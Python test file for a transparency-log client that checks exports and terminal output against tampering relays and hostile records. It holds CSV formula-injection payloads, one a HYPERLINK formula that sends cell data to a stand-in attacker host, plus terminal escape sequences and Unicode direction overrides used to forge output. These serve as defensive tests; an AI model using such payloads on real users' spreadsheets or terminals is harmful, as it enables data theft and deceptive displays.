"""Truthful reading (issue 19): what people see is what the log proves, and
nothing a log or a relay sends can mislead or exhaust a reader.

Each test puts a misbehaving relay (a proxy on loopback that swaps,
replays, pads or rewrites answers) or a hostile record between a real
pubtraild and the real client, and checks what a person or a program
reading the output gets: the exit code, the reason, the bytes written.
Exports are opened by LibreOffice (soffice --convert-to, headless) and the
OCDS package is validated against the official OCDS 1.1 release-package
schema (python3-jsonschema; the schema from $PT_OCDS_SCHEMA_DIR or
../shared/ocds/, see ocds_schema_dir()).
"""
import decimal
import hashlib
import http.client
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import ptlib  # noqa: E402
from test_client_roundtrip import Env, run, payment, permit  # noqa: E402

TOP = ptlib.TOP
ASAN = "asan" in os.path.basename(ptlib.BUILD.rstrip("/"))


class Relay:
    """An HTTP relay on a free loopback port in front of a pubtraild.
    route(path, headers) may return a path to fetch instead, or a tuple
    (status, body, content type) to answer without asking the log; every
    request's path and headers are recorded in .seen."""

    def __init__(self, target_port, route=None):
        self.target = target_port
        self.route = route or (lambda path, headers: None)
        self.seen = []
        relay = self

        class H(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def do_GET(self):
                hdrs = {k: v for k, v in self.headers.items()}
                relay.seen.append((self.path, hdrs))
                r = relay.route(self.path, hdrs)
                if isinstance(r, tuple):
                    status, body, ctype = r
                else:
                    path = r or self.path
                    c = http.client.HTTPConnection("127.0.0.1", relay.target,
                                                   timeout=30)
                    try:
                        c.request("GET", path, headers={
                            "Accept": self.headers.get("Accept", "*/*")})
                        a = c.getresponse()
                        status, body = a.status, a.read()
                        ctype = a.getheader("Content-Type")
                    finally:
                        c.close()
                try:
                    self.send_response(status)
                    if ctype:
                        self.send_header("Content-Type", ctype)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                except OSError:
                    pass    # the client cut a padded answer at its cap

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.srv.daemon_threads = True
        self.url = "http://127.0.0.1:%d" % self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
        ptlib._live.append(self)

    def kill(self):
        if self in ptlib._live:
            ptlib._live.remove(self)
            self.srv.shutdown()
            self.srv.server_close()


def L(env, url):
    return ["--log", url, "--log-key", env.logvkey]


def two_office_env():
    """Env with a second office (B) allowed to submit; returns (env, bkey,
    bvkey)."""
    env = Env()
    bkey = env.path("b.key")
    bvkey = run("keygen", "--name", "works.example-city.gov", "--out", bkey,
                check=0).stdout.decode().strip()
    # who may append is the log's grants: the registrar grants B's key
    run("keys", "grant", *env.L, "--registrar-key",
        env.d.write_registrar_key(), "--key", bkey + ".pub", "--name",
        "Works Office", "--org", "XI-EXAMPLE/WORKS", "--types",
        "payment,permit_decision,correction", "--reason", "second office",
        check=0)
    return env, bkey, bvkey


def submit_as(env, key, records, name):
    f = env.write(name, "\n".join(json.dumps(r) for r in records) + "\n")
    p = run("submit", *env.L, "--key", key, "--json", "--receipts",
            env.path("rcpt-" + name), f, check=0)
    return {json.loads(x)["id"]: json.loads(x)["index"]
            for x in p.stdout.decode().splitlines()}


def post_as(env, keyfile, records):
    """Records straight to the log's POST /add, signed with the office's
    key file: what `submit` refuses to send (text that reads otherwise than
    it is) reaches the log from another client, and readers must show it
    safely.  {id: index}."""
    import base64
    _, _, name, _, b64 = open(keyfile).read().strip().split("+", 4)
    key = ptlib.Key(name, base64.b64decode(b64)[1:])
    out = {}
    for r in records:
        p = env.d.post("/add", ptlib.submission(r, key, env.d.origin))
        assert p.status == 200, p.body
        out[r["id"]] = ptlib.unpackb(p.body)["index"]
    return out


# ------------------------------------------------ answers bound to questions

def test_answers_bound_to_questions():
    env, bkey, bvkey = two_office_env()
    try:
        ia = submit_as(env, env.key, [payment("A-1"), payment("A-2")], "a")
        ib = submit_as(env, bkey, [payment("B-1")], "b")
        sid_a = hashlib.sha256(env.vkey.encode()).hexdigest()
        sid_b = hashlib.sha256(bvkey.encode()).hexdigest()

        # /lookup of A's A-1 answered with B's B-1 (a genuine entry, with
        # its valid proof)
        def swap_lookup(path, h):
            if path.startswith("/lookup?"):
                return "/lookup?submitter=%s&id=B-1" % sid_b
        r = Relay(env.d.port, swap_lookup)
        p = run("get", "lookup", *L(env, r.url), "--submitter", env.vkey,
                "--id", "A-1", check=1)
        err = p.stderr.decode()
        assert "another office" in err and "works.example-city.gov+" in err, err
        assert b"verified" not in p.stdout
        # same office, another id
        r.route = lambda path, h: ("/lookup?submitter=%s&id=A-2" % sid_a
                                   if path.startswith("/lookup?") else None)
        p = run("get", "lookup", *L(env, r.url), "--submitter", env.vkey,
                "--id", "A-1", check=1)
        assert b"record A-2: not the record asked for" in p.stderr, p.stderr
        # honest relay: verified, the signer named with its key hash
        r.route = lambda path, h: None
        p = run("get", "lookup", *L(env, r.url), "--submitter", env.vkey,
                "--id", "A-1", check=0)
        name, khash = env.vkey.split("+")[:2]
        assert ("signed by %s+%s" % (name, khash)).encode() in p.stdout, \
            p.stdout

        # /entry/N answered with entry M
        a1, a2 = ia["A-1"], ia["A-2"]
        r.route = lambda path, h: ("/entry/%d" % a2 if path == "/entry/%d" % a1
                                   else None)
        p = run("get", "entry", *L(env, r.url), a1, check=1)
        assert b"not the entry at index %d" % a1 in p.stderr, p.stderr

        # an inclusion proof for another index than asked
        def other_proof(path, h):
            if path.startswith("/proof/inclusion?index=%d&" % a1):
                return path.replace("index=%d" % a1, "index=%d" % ib["B-1"])
        r.route = other_proof
        p = run("get", "entry", *L(env, r.url), a1, check=1)
        assert b"not the one asked for" in p.stderr, p.stderr
        # a consistency proof for other sizes than asked
        old = env.path("old.ckpt")
        with open(old, "wb") as f:
            f.write(env.d.get("/checkpoint").body)
        submit_as(env, env.key, [payment("A-3")], "a3")

        def other_cons(path, h):
            if path.startswith("/proof/consistency?"):
                return "/proof/consistency?old=1&new=2"
        r.route = other_cons
        p = run("get", "consistency", *L(env, r.url), "--from", old, check=1)
        assert b"not the one asked for" in p.stderr, p.stderr
        r.kill()
    finally:
        env.close()


# ------------------------------------------------------ stale, not rollback

def test_stale_is_not_rollback():
    env = Env()
    try:
        submit_as(env, env.key, [payment("S-%d" % i) for i in range(5)], "s")
        old_note = env.d.get("/checkpoint").body
        state = env.path("audit-state")
        run("audit", *env.L, "--state", state, check=0)
        submit_as(env, env.key, [payment("T-%d" % i) for i in range(3)], "t")
        run("audit", *env.L, "--state", state, check=0)
        saved = open(os.path.join(state, "checkpoint"), "rb").read()

        # a cache that keeps serving the old checkpoint, even when asked to
        # revalidate; proofs pass through to the live log
        r = Relay(env.d.port, lambda path, h: (200, old_note, "text/plain")
                  if path == "/checkpoint" else None)
        for cmd in (["get", "checkpoint"], ["audit", "--state", state],
                    ["monitor", "--once", "--state", state]):
            r.seen.clear()
            p = run(cmd[0], *L(env, r.url), *cmd[1:], check=7)
            err = p.stderr.decode()
            assert "stale" in err and "not a rollback" in err, (cmd, err)
            assert "rolled back" not in err and "FAILED" not in err, err
            cks = [h for path, h in r.seen if path == "/checkpoint"]
            # asked twice, the second time past caches
            assert len(cks) == 2, (cmd, r.seen)
            assert cks[1].get("Cache-Control") == "no-cache", cks[1]
            assert cks[0].get("Cache-Control") is None, cks[0]
        assert open(os.path.join(state, "checkpoint"), "rb").read() == saved

        # a cache that serves the old checkpoint once, then the fresh one
        # when asked past it: no error at all
        n = {"ck": 0}

        def once(path, h):
            if path == "/checkpoint" and h.get("Cache-Control") != "no-cache":
                return (200, old_note, "text/plain")
        r.route = once
        run("get", "checkpoint", *L(env, r.url), check=0)
        run("audit", *L(env, r.url), "--state", state, check=0)
        del n
        r.kill()
    finally:
        env.close()


# ------------------------------------------------------------ safe exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-3+4*cmd",
    "@SUM(1+1)",
    "=1+1",
]


def fods_cells(path, infilter=None, floats=None):
    """Convert a CSV with LibreOffice (headless) to flat ODS; return
    (formulas, texts).  infilter: LibreOffice's CSV import options
    ("59,34,76,1,,1031": ';', '"', UTF-8, from row 1, German); floats, a
    list, gets the values of the cells read as numbers."""
    out = os.path.dirname(path)
    home = ptlib.tmpdir("pt-lo-")
    subprocess.run(["soffice", "--headless", "-env:UserInstallation=file://" +
                    home] + (["--infilter=CSV:" + infilter] if infilter
                             else []) +
                   ["--convert-to", "fods", "--outdir", out, path],
                   stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                   timeout=180, check=True, env=dict(os.environ, HOME=home))
    text = open(path[:-4] + ".fods", encoding="utf-8").read()
    import re
    if floats is not None:
        floats.extend(re.findall(
            r'office:value-type="float" office:value="([^"]*)"', text))
    return (re.findall(r'table:formula="([^"]*)"', text),
            re.findall(r"<text:p>([^<]*)</text:p>", text))


def test_exports_safe_to_open():
    env = Env()
    try:
        recs = []
        for i, h in enumerate(HOSTILE):
            p = payment("X-%d" % i, amount=-1250 - i)
            p["payee"]["name"] = h
            p["description"] = h
            recs.append(p)
        big = payment("BIG-1", amount=9223372036854775807)
        recs.append(big)
        pm = permit("PER-1", "=BP-1")
        pm["est_project_cost_minor"] = 123456789
        recs.append(pm)
        idx = submit_as(env, env.key, recs, "x")
        d = ptlib.tmpdir("pt-exp-")
        for fmt in ("csv", "blds"):
            safe = os.path.join(d, fmt + ".csv")
            raw = os.path.join(d, fmt + "-raw.csv")
            run("export", *env.L, "--format", fmt, "--out", safe, check=0)
            run("export", *env.L, "--format", fmt, "--raw", "--out", raw,
                check=0)
            f_raw, _ = fods_cells(raw)
            f_safe, texts = fods_cells(safe)
            # the test can fail: unchanged cells are formulas in Calc
            assert f_raw, (fmt, "LibreOffice ran no formula from --raw")
            assert f_safe == [], (fmt, f_safe)
            if fmt == "csv":
                for h in HOSTILE:
                    assert ("'" + h).replace("&", "&amp;").replace(
                        '"', "&quot;").replace("'", "&apos;") in texts, \
                        (h, texts[:80])
                # negative amounts stay numbers, not text
                assert "-12.50" in texts or "-12.5" in texts, texts[:80]
            else:
                assert "&apos;=BP-1" in texts or "'=BP-1" in texts, texts
                import csv
                rows = list(csv.reader(open(safe, newline="")))
                hdr, row = rows[0], rows[1]
                assert hdr[-1] == "Currency", hdr
                assert row[hdr.index("Fee")] == "150.50"
                assert row[hdr.index("EstProjectCost")] == "1234567.89"
                assert row[hdr.index("Currency")] == "USD"
        # for a German (French, Spanish ...) spreadsheet: a decimal comma,
        # ';' and a byte order mark; Calc in German reads the amounts as
        # numbers (the default export's 1234.56 it reads as text), and
        # still runs nothing
        de = os.path.join(d, "de.csv")
        run("export", *env.L, "--format", "csv", "--decimal-comma", "--bom",
            "--out", de, check=0)
        raw = open(de, "rb").read()
        assert raw.startswith(b"\xef\xbb\xbf\"index\";") or \
            raw.startswith(b"\xef\xbb\xbfindex;"), raw[:40]
        for path, want in ((de, True), (os.path.join(d, "csv.csv"), False)):
            floats = []
            f, texts = fods_cells(path, "59,34,76,1,,1031" if want else
                                  "44,34,76,1,,1031", floats)
            assert f == [], f
            assert ("-12.5" in floats) == want, (path, floats[:20])
        import csv
        rows = list(csv.DictReader(open(de, encoding="utf-8-sig",
                                        newline=""), delimiter=";"))
        amounts = {r["id"]: r["amount"] for r in rows}
        assert amounts["X-0"] == "-12,50", amounts
        assert amounts["BIG-1"] == "92233720368547758,07", amounts

        # OCDS: exact amounts, valid against the official schema
        pkg_path = os.path.join(d, "ocds.json")
        run("export", *env.L, "--format", "ocds", "--out", pkg_path, check=0)
        pkg = json.load(open(pkg_path), parse_float=decimal.Decimal)
        amounts = {}
        for rel in pkg["releases"]:
            for c in rel["contracts"]:
                assert c["awardID"] in [a["id"] for a in rel["awards"]]
                for t in c["implementation"]["transactions"]:
                    amounts[t["id"]] = t["value"]["amount"]
        assert amounts["BIG-1"] == decimal.Decimal("92233720368547758.07"), \
            amounts["BIG-1"]
        assert "92233720368547758.07" in open(pkg_path).read()
        assert amounts["X-0"] == decimal.Decimal("-12.50")
        assert pkg["uri"].startswith("urn:pubtrail:") and \
            "/checkpoint" not in pkg["uri"], pkg["uri"]
        validate_ocds(pkg_path)
        del idx
    finally:
        env.close()


def ocds_schema_dir():
    """The official OCDS 1.1 schemas (release-schema.json and
    release-package-schema.json, open-contracting/standard, tag 1__1__5,
    Apache-2.0), from $PT_OCDS_SCHEMA_DIR or the steering repository's
    shared/ocds/ beside this checkout.  They are third-party data that this
    project may not commit (the team's rules); None when absent."""
    for d in (os.environ.get("PT_OCDS_SCHEMA_DIR"),
              os.path.join(TOP, "..", "shared", "ocds")):
        if d and os.path.isfile(os.path.join(d, "release-schema.json")) \
                and os.path.isfile(os.path.join(d,
                                                "release-package-schema.json")):
            return d
    return None


def validate_ocds(path):
    doc = json.load(open(path))
    sdir = ocds_schema_dir()
    if sdir is None:
        print("NOTE: OCDS schema validation not run: the official OCDS 1.1 "
              "schemas are not on this machine (set PT_OCDS_SCHEMA_DIR, or "
              "put them in ../shared/ocds/); the package's own shape is "
              "still checked", flush=True)
        assert doc.get("releases") and doc.get("version") == "1.1", doc
        return doc
    import jsonschema
    rel = json.load(open(os.path.join(sdir, "release-schema.json")))
    pkg = json.load(open(os.path.join(sdir, "release-package-schema.json")))
    resolver = jsonschema.RefResolver.from_schema(pkg, store={
        rel["id"]: rel, pkg["id"]: pkg})
    v = jsonschema.Draft4Validator(pkg, resolver=resolver,
                                   format_checker=jsonschema.FormatChecker())
    errors = sorted(v.iter_errors(doc), key=lambda e: list(e.path))
    assert not errors, [(list(e.path), e.message) for e in errors[:5]]
    print("OCDS package valid against the official schema in %s" % sdir,
          flush=True)
    return doc


# ----------------------------------------------------------- terminal output

def test_terminal_cannot_be_forged():
    env = Env()
    try:
        idx = submit_as(env, env.key, [payment("P-1")], "p")
        leaf = hashlib.sha256(b"\x00" + env.d.get("/entry/%d" % idx["P-1"]).body
                              ).hexdigest()
        forged = ("typo\n%d payment FAKE-9 2026-03-01 99.00 EUR City Finance "
                  "-> Evil Ltd" % (idx["P-1"] + 5))
        corr = {"type": "correction", "id": "C-1", "action": "void",
                "target_index": idx["P-1"], "target_leaf_hash": leaf,
                "reason": forged}
        pay = payment("P-2")
        pay["payee"]["name"] = "Acme\u202eRoads"
        submit_as(env, env.key, [corr], "c")
        # (submit refuses the override: another client's record)
        post_as(env, env.key, [pay])
        p = run("monitor", *env.L, "--from-start", "--once", check=0)
        out = p.stdout.decode()
        # (the log's first entry is its bootstrap grant, an office_key)
        lines = [x for x in out.splitlines() if " office_key " not in x]
        assert len(lines) == 3, lines
        cl = [x for x in lines if " correction " in x]
        assert len(cl) == 1 and "FAKE-9" in cl[0] and "typo\\n" in cl[0], \
            lines
        assert "\u202e" not in out and "\\u202e" in out, out
    finally:
        env.close()


# ------------------------------------------------------- small things

def test_closed_pipe_and_small_things():
    env = Env()
    try:
        recs = [payment("Q-%d" % i) for i in range(600)]
        submit_as(env, env.key, recs, "q")
        # (submit refuses the zero-width space: another client's record)
        post_as(env, env.key, [dict(payment("Z-1"), payee={
            "kind": "organization", "scheme": "GB-COH", "id": "9",
            "name": "Ac\u200bme Roads"})])
        # a reader that stops after two lines: quiet, SIGPIPE
        for fmt in ("csv", "jsonl", "ocds"):
            pr = subprocess.Popen([ptlib.PUBTRAIL, "export", *env.L,
                                   "--format", fmt, "--quiet"],
                                  stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE)
            pr.stdout.readline()
            pr.stdout.readline()
            pr.stdout.close()
            err = pr.stderr.read()
            rc = pr.wait(timeout=60)
            assert rc == -13, (fmt, rc, err)
            assert err == b"", (fmt, err)
        # a malformed --hash or --submitter is a usage error (2) found
        # before any request, even when the log cannot be reached (3)
        down = ["--log", "http://127.0.0.1:9", "--log-key", env.logvkey]
        run("get", "inclusion", "--hash", "zz", *down, check=2)
        run("get", "lookup", "--submitter", "no-such-key", "--id", "Q-1",
            *down, check=2)
        run("get", "checkpoint", *down, check=3)
        # a full disk under the output is ours, not the log's: exit 6
        with open("/dev/full", "wb") as full:
            p = subprocess.run([ptlib.PUBTRAIL, "export", *env.L,
                                "--format", "csv", "--quiet"],
                               stdout=full, stderr=subprocess.PIPE)
        assert p.returncode == 6, (p.returncode, p.stderr)
        assert b"writing the export to standard output: No space left" \
            in p.stderr and b"FAILED" not in p.stderr, p.stderr
        # filters: case, zero-width space
        p = run("monitor", *env.L, "--from-start", "--once", "--payee",
                "ACME ROADS", check=0)
        assert "Z-1" in p.stdout.decode() and p.stdout.count(b"\n") == 1, \
            p.stdout
        p = run("monitor", *env.L, "--from-start", "--once", "--payee",
                "acme ltd", check=0)
        assert p.stdout.count(b"\n") == 600
        run("monitor", *env.L, "--once", "--type", "bogus", check=2)
        # JSON: one encoding per field (hex hashes), same names
        ck = json.loads(run("get", "checkpoint", *env.L, "--json",
                            check=0).stdout)
        au = json.loads(run("audit", *env.L, "--json", check=0).stdout)
        assert ck["root"] == au["root"] and len(ck["root"]) == 64
        assert ck["tree_size"] == au["tree_size"]
        # verify names what it was given
        jr = env.write("rec.json", json.dumps(payment("J-1")))
        p = run("verify", "--log-key", env.logvkey, jr, check=1)
        assert b"a JSON payment record" in p.stderr and \
            b"not a receipt" in p.stderr, p.stderr
        ckf = env.path("ck.txt")
        with open(ckf, "wb") as f:
            f.write(env.d.get("/checkpoint").body)
        p = run("verify", "--log-key", env.logvkey, ckf, check=1)
        assert b"a signed note" in p.stderr, p.stderr
        csvf = env.write("month.csv", "id;date;amount\nK-1;2026-01-01;1,00\n")
        p = run("verify", "--log-key", env.logvkey, csvf, check=1)
        assert b"a text file (a CSV export? that is what an office " \
            b"submits), not a receipt" in p.stderr, p.stderr
        p = run("verify", "--log-key", env.logvkey, "--json",
                env.path("missing.receipt"), check=6)
        o = json.loads(p.stdout)
        assert o["valid"] is False and o["error"] == "io", o
    finally:
        env.close()


def test_names_people_can_trust():
    a = ptlib.Key("finance-office")
    b = ptlib.Key("finance-office")
    d = ptlib.Daemon(submitters=[(a, ["payment"]), (b, ["payment"])])
    try:
        d.start(wait=False)
        rc = d.proc.wait(timeout=30)
        assert rc != 0
        log = d.logtext()
        assert 'a second key named "finance-office"' in log, log
    finally:
        d.kill()


def test_gossip_peer_claims():
    """A gossip peer that answers our POST with 409 and terminal control
    bytes: its claim is shown escaped, and is not an exit 1."""
    env = Env()
    try:
        state = env.path("gossip")
        run("gossip", "sync", "--state", state, "--log", env.url,
            "--log-key", env.logvkey, "--peer", env.url + "/nope", check=None)

        class Peer(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *a):
                pass

            def reply(self, status, body):
                self.send_response(status)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                self.reply(200, b"")

            def do_POST(self):
                self.rfile.read(int(self.headers["Content-Length"]))
                self.reply(409, b"\x1b]0;owned\x07\x1b[2J split view!\n"
                           b"gossip: 1 log(s) consistent\n")
        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Peer)
        threading.Thread(target=srv.serve_forever, daemon=True).start()
        try:
            p = run("gossip", "sync", "--state", state, "--peer",
                    "http://127.0.0.1:%d" % srv.server_address[1])
            assert p.returncode == 0, (p.returncode, p.stderr)
            assert b"\x1b" not in p.stderr and b"\\x1b" in p.stderr, p.stderr
            assert b"claim" in p.stderr
        finally:
            srv.shutdown()
            srv.server_close()
    finally:
        env.close()


# ------------------------------------------- corrections wherever shown

def test_corrections_everywhere():
    env = Env()
    try:
        idx = submit_as(env, env.key, [payment(
            "PAY-DC-%d" % i, amount=1000 + i, **({"budget": {
                "economic": "5410.9400", "fiscal_year": 2026}} if i == 3
                else {})) for i in range(4)], "p")
        rcpt = os.path.join(env.path("rcpt-p"), "PAY-DC-1.receipt")
        assert os.path.exists(rcpt), os.listdir(env.path("rcpt-p"))
        leaf = {k: hashlib.sha256(b"\x00" + env.d.get("/entry/%d" % i).body
                                  ).hexdigest() for k, i in idx.items()}
        void = {"type": "correction", "id": "C-VOID", "action": "void",
                "target_index": idx["PAY-DC-1"],
                "target_leaf_hash": leaf["PAY-DC-1"], "reason": "paid twice"}
        amend = {"type": "correction", "id": "C-AMEND", "action": "amend",
                 "target_index": idx["PAY-DC-2"],
                 "target_leaf_hash": leaf["PAY-DC-2"],
                 "reason": "wrong amount",
                 "replacement": payment("PAY-DC-2", amount=4242)}
        ci = submit_as(env, env.key, [void], "v")
        ci.update(submit_as(env, env.key, [amend], "a"))

        # get lookup / entry: the status, and the record as amended
        p = run("get", "lookup", *env.L, "--submitter", env.vkey, "--id",
                "PAY-DC-1", check=0)
        out = p.stdout.decode()
        assert "status: VOIDED by #%d" % ci["C-VOID"] in out, out
        assert "paid twice" in out
        j = json.loads(run("get", "entry", *env.L, "--json",
                           idx["PAY-DC-2"], check=0).stdout)
        assert j["status"] == "amended" and j["corrected_by"] == ci["C-AMEND"]
        assert j["effective_record"]["amount_minor"] == 4242
        assert j["record"]["amount_minor"] == 1002
        j = json.loads(run("get", "entry", *env.L, "--json", idx["PAY-DC-0"],
                           check=0).stdout)
        assert j["status"] == "current" and j["corrected_by"] is None

        # verify: offline says it cannot know; online applies the void
        p = run("verify", "--log-key", env.logvkey, rcpt, check=0)
        assert b"not checked offline" in p.stdout, p.stdout
        p = run("verify", *env.L, rcpt, check=0)
        assert b"VOIDED by #%d" % ci["C-VOID"] in p.stdout, p.stdout
        o = json.loads(run("verify", *env.L, "--json", rcpt, check=0).stdout)
        assert o["entry"]["status"] == "voided" and o["log"]["consistent"]
        before = open(rcpt, "rb").read()
        run("verify", *env.L, "--refresh", rcpt, check=0)
        after = open(rcpt, "rb").read()
        assert after != before
        r = ptlib.unpackb(after)
        _, _, note = ptlib.parse_tlog_proof(r["proof"])
        assert note.split("\n")[1] == str(env.d.checkpoint()[1])
        run("verify", "--log-key", env.logvkey, rcpt, check=0)

        # monitor and every export
        p = run("monitor", *env.L, "--from-start", "--once", check=0)
        mon = p.stdout.decode()
        assert "PAY-DC-1" in mon and "VOIDED by #%d" % ci["C-VOID"] in mon, mon
        import csv
        rows = list(csv.DictReader(run("export", *env.L, "--format", "csv",
                                       "--quiet", check=0).stdout.decode()
                                   .splitlines()))
        by_id = {r["id"]: r for r in rows}
        assert by_id["PAY-DC-1"]["status"] == "voided"
        assert by_id["PAY-DC-1"]["corrected_by"] == str(ci["C-VOID"])
        assert by_id["PAY-DC-2"]["status"] == "amended"
        assert by_id["PAY-DC-0"]["status"] == "current"
        assert by_id["C-AMEND"]["amount_minor"] == "4242"
        assert by_id["C-AMEND"]["target_index"] == str(idx["PAY-DC-2"])
        # the row that holds each record as it stands: what was paid is
        # the sum over in_effect 1; every field, budget too
        assert {k: r["in_effect"] for k, r in by_id.items()} == {
            "PAY-DC-0": "1", "PAY-DC-1": "0", "PAY-DC-2": "0",
            "PAY-DC-3": "1", "C-VOID": "0", "C-AMEND": "1"}, by_id
        assert sum(int(r["amount_minor"]) for r in rows
                   if r["in_effect"] == "1") == 1000 + 1003 + 4242
        assert (by_id["PAY-DC-3"]["budget_economic"],
                by_id["PAY-DC-3"]["budget_fiscal_year"]) == ("5410.9400",
                                                             "2026")
        import datetime
        r3 = by_id["PAY-DC-3"]
        assert r3["log_time"] == datetime.datetime.fromtimestamp(
            int(r3["log_time_ms"]) // 1000, datetime.timezone.utc).strftime(
            "%Y-%m-%dT%H:%M:%SZ"), r3
        lines = [json.loads(x) for x in run("export", *env.L, "--format",
                                            "jsonl", "--quiet",
                                            check=0).stdout.splitlines()]
        st = {x["record"]["id"]: (x["status"], x["corrected_by"])
              for x in lines}
        assert st["PAY-DC-1"] == ("voided", ci["C-VOID"]), st
        assert st["PAY-DC-3"] == ("current", None)
        pkg_path = env.path("ocds.json")
        run("export", *env.L, "--format", "ocds", "--out", pkg_path, check=0)
        pkg = validate_ocds(pkg_path)
        upd = [r for r in pkg["releases"]
               if r["tag"] == ["implementationUpdate"]]
        assert len(upd) == 2, [r["tag"] for r in pkg["releases"]]
        orig = {r["contracts"][0]["implementation"]["transactions"][0]["id"]:
                r for r in pkg["releases"] if r["tag"] == ["implementation"]}
        for r in upd:
            a = r["contracts"][0]["amendments"][0]
            tx = r["contracts"][0]["implementation"]["transactions"][0]
            o = orig[tx["id"]]
            assert r["ocid"] == o["ocid"] and a["amendsReleaseID"] == o["id"]
            assert a["releaseID"] == r["id"]
            if a["rationale"] == "paid twice":
                assert tx["id"] == "PAY-DC-1" and tx["value"]["amount"] is None
            else:
                assert tx["id"] == "PAY-DC-2" and \
                    tx["value"]["amount"] == 42.42
        run("audit", *env.L, check=0)

        # a relay that lists a payment as a correction: exit 1
        t1 = idx["PAY-DC-1"]

        def bogus(path, h):
            if path.startswith("/corrections/%d?" % t1):
                return (200, ptlib.packb({"corrections": [ci["C-AMEND"]],
                                          "index": t1, "more": 0}),
                        "application/msgpack")
        r = Relay(env.d.port, bogus)
        p = run("get", "entry", *L(env, r.url), t1, check=1)
        assert b"as a correction of entry %d, but it is not" % t1 in \
            p.stderr and b"corrects entry %d, not" % idx["PAY-DC-2"] in \
            p.stderr, p.stderr
        # a relay whose corrections index leaves one out: the audit says so
        real = ptlib.unpackb(env.d.get("/corrections").body)

        def omit(path, h):
            if path.startswith("/corrections") and not \
                    path.startswith("/corrections/"):
                return (200, ptlib.packb({"corrections": [
                    c for c in real["corrections"] if c[1] != ci["C-VOID"]],
                    "more": 0}), "application/msgpack")
        r.route = omit
        for cmd in (["audit"], ["export", "--format", "csv"]):
            p = run(cmd[0], *L(env, r.url), *cmd[1:], check=1)
            assert b"leaves out" in p.stderr, (cmd, p.stderr)
        # a relay (or a static mirror) without the routes: unknown, never
        # "current"; the audit checks each correction against its target
        r.route = lambda path, h: ((404, b"no\n", "text/plain")
                                   if path.startswith("/corrections")
                                   else None)
        p = run("get", "entry", *L(env, r.url), idx["PAY-DC-0"], check=0)
        assert b"status: unknown" in p.stdout, p.stdout
        run("audit", *L(env, r.url), check=0)
        rows = list(csv.DictReader(run("export", *L(env, r.url), "--format",
                                       "csv", "--quiet", check=0).stdout
                                   .decode().splitlines()))
        assert {x["status"] for x in rows} == {"unknown"}
        assert {x["in_effect"] for x in rows} == {""}
        r.kill()
        # an amendment amended again is no longer in effect; the last is
        amend2 = dict(amend, id="C-AMEND2", replacement=payment(
            "PAY-DC-2", amount=4343))
        ci.update(submit_as(env, env.key, [amend2], "a2"))
        rows = list(csv.DictReader(run("export", *env.L, "--format", "csv",
                                       "--quiet", check=0).stdout.decode()
                                   .splitlines()))
        by_id = {x["id"]: x for x in rows}
        assert (by_id["C-AMEND"]["in_effect"], by_id["C-AMEND2"]["in_effect"],
                by_id["PAY-DC-2"]["in_effect"]) == ("0", "1", "0"), by_id
        assert sum(int(x["amount_minor"]) for x in rows
                   if x["in_effect"] == "1") == 1000 + 1003 + 4343
    finally:
        env.close()


# ------------------------------------------------------------ bounded memory

def run_rss(args):
    """Run args (output discarded) under GNU time: (exit code, peak RSS
    in KiB).  Not forked from this process: a child's maximum RSS would
    count the test's own pages it was forked with."""
    out = os.path.join(ptlib.tmpdir("pt-rss-"), "rss")
    env = dict(os.environ)
    if ASAN:
        # ASan's quarantine keeps freed memory resident: off, to compare
        env["ASAN_OPTIONS"] = "quarantine_size_mb=0:" \
            "thread_local_quarantine_size_kb=0"
    with open(os.devnull, "wb") as null:
        rc = subprocess.call(["/usr/bin/time", "-o", out, "-f", "%M"] +
                             list(args), stdout=null, stderr=null, env=env)
    return rc, int(open(out).read().split()[-1])


def test_bounded_memory():
    env = Env()
    try:
        big = "x" * 4000
        recs = [dict(payment("M-%d" % i), description=big + str(i))
                for i in range(8000)]
        submit_as(env, env.key, recs, "m")
        log_bytes = sum(len(json.dumps(r)) for r in recs)
        assert log_bytes > 32 << 20, log_bytes
        # The audit holds its window of bundles in flight, whatever the
        # reader.  monitor shows entries as consistency proofs place them
        # (it kept every new entry: audit + 32 MiB here) and every export
        # streams (OCDS held the whole package): each stays within a few
        # MiB of the audit's own peak.
        # Each peak moves by several MiB from run to run with the bundles
        # in flight (on the VM of 2026-12-05, ten runs: audit 37-46 MiB,
        # monitor audit + 10.4-14.6 MiB, the OCDS export audit - 10.4 to
        # + 8.8 MiB).  monitor holds up to 4 MiB of entries until a
        # consistency proof places them, and under ASan each kept
        # entry-sized allocation costs about twice its size (redzones,
        # size classes): audit + 20.0-23.4 MiB there.  The old monitor,
        # which kept every entry, needed audit + 32 MiB without ASan.
        slack = (40 if ASAN else 20) * 1024
        rc, base = run_rss([ptlib.PUBTRAIL, "audit", *env.L])
        assert rc == 0, rc
        rc, kib = run_rss([ptlib.PUBTRAIL, "monitor", *env.L, "--from-start",
                           "--once"])
        assert rc == 0, rc
        assert kib - base < slack, ("monitor", kib, "audit", base)
        for fmt in ("csv", "jsonl", "ocds", "blds"):
            rc, kib = run_rss([ptlib.PUBTRAIL, "export", *env.L, "--format",
                               fmt, "--quiet"])
            assert rc == 0 and kib - base < slack, (fmt, rc, kib, base)

        # a relay that pads hash tiles (at most 8 KiB) to 48 MiB and slows
        # the checkpoint: each answer is cut at its cap while it is read,
        # and the whole request has a deadline
        pad = b"\0" * (48 << 20)

        def padded(path, h):
            if path.startswith("/tile/0/"):
                return (200, pad, "application/octet-stream")
        r = Relay(env.d.port, padded)
        rc, kib = run_rss([ptlib.PUBTRAIL, "audit", *L(env, r.url)])
        # (uncapped, the window's 32 tiles alone would be 1.5 GiB)
        assert rc == 3 and kib - base < 16 * 1024, ("padded tiles", rc,
                                                     kib, "audit", base)
        p = run("audit", *L(env, r.url), check=3)
